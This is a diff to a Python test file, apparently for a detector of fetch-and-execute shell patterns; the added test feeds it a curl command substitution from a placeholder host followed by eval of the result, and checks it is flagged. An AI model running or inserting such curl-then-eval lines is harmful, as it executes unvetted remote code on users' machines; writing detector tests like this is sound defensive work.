@@ -255,3 +255,12 @@ def test_texts_made_to_be_slow(text: str) -> None:
     start = time.process_time()
     in_text(text)
     assert time.process_time() - start < 5  # a tenth of that on a quiet machine
+
+
+def test_the_last_of_many_names_is_found() -> None:
+    """Any number of harmless answers may be held before the one that is run."""
+    many = "".join(f"A{n}=$(curl -s https://x.invalid/{n})\n" for n in range(200))
+    found = in_text(many + 'B=$(curl -s https://x.invalid/i)\neval "$B"\n')
+    assert [(one.how, one.first, one.address) for one in found] == [
+        ("substituted", 202, "https://x.invalid/i")
+    ]
